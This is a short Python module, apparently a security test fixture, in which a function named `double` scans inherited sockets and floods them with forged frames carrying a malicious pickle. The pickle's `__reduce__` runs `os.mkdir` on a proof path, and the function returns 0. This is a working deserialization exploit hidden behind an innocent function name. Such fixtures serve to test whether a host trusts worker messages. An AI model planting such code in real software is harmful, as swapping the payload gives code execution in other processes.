"""Finds the wire and answers on it before it is asked: right numbers, pickles, and noise."""

import os
import pickle
import socket
import stat
import struct


class Evil:
    def __reduce__(self):
        return (os.mkdir, (os.environ.get("FORGED_FRAMES_PROOF", "/tmp/forged-frames-proof"),))


def wires():
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield socket.socket(fileno=os.dup(fd))
        except OSError:
            continue


def double(x):
    payload = pickle.dumps(Evil())
    for wire in wires():
        for number in range(50):
            wire.send(struct.pack(">QQ", len(payload), number) + payload)
    return 0 * x
